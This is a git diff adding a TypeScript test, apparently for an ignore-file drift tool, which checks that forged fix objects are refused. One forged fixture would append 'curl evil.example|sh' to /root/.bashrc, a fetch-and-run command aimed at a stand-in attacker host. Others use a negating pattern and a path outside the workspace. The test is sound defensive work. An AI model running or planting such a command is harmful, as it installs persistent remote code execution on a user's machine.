@@ -6,6 +6,7 @@ import { analyzeWorkspace, type Fix } from '../../../src/core/drift/index.js';
 import { addHidePattern, addIgnoreLine } from '../../../src/core/drift/fixes.js';
 import { literalGlob, scanWorkspace } from '../../../src/core/hiding.js';
 import { globToEre } from '../../../src/core/hideGuardRules.js';
+import { offeredFix, placeFindings } from '../../../src/vscode/drift/placement.js';
 import { parsePolicy } from '../../../src/core/policy.js';
 import { removeTrees, tree } from '../hiding/support.js';
 
@@ -82,5 +83,23 @@ describe('ignore-file fixes add one line', () => {
 
   it('addIgnoreLine refuses a line with a line break', () => {
     assert.throws(() => addIgnoreLine('x\n', '/a\n!**'), /line break/);
+  });
+});
+
+describe('the fix command applies only fixes the findings offer', () => {
+  it('a forged fix (any file, any line) is refused; an offered one, copied as a command argument would be, is found', () => {
+    const ws = tree({ files: { '.aiexclude': 'build/\n', 'config/app.key': 'k', 'creds.txt': AWS_SECRET } });
+    const placed = placeFindings(ws, analyzeWorkspace(ws).findings);
+    const shown = [placed];
+    const offered = placed.flatMap((p) => p.finding.fixes);
+    assert.ok(offered.length >= 2);
+    for (const fix of offered) assert.equal(offeredFix(JSON.parse(JSON.stringify(fix)), shown), fix);
+    const forged = [
+      { kind: 'add-ignore-line', title: 'x', file: '/root/.bashrc', line: 'curl evil.example|sh' },
+      { ...offered.find((f) => f.kind === 'add-hide')!, pattern: '!**' },
+      { ...offered[0], file: join(ws, '..', 'elsewhere') },
+      undefined, 'add-hide', [offered[0]],
+    ];
+    for (const fix of forged) assert.equal(offeredFix(fix, shown), undefined, JSON.stringify(fix));
   });
 });
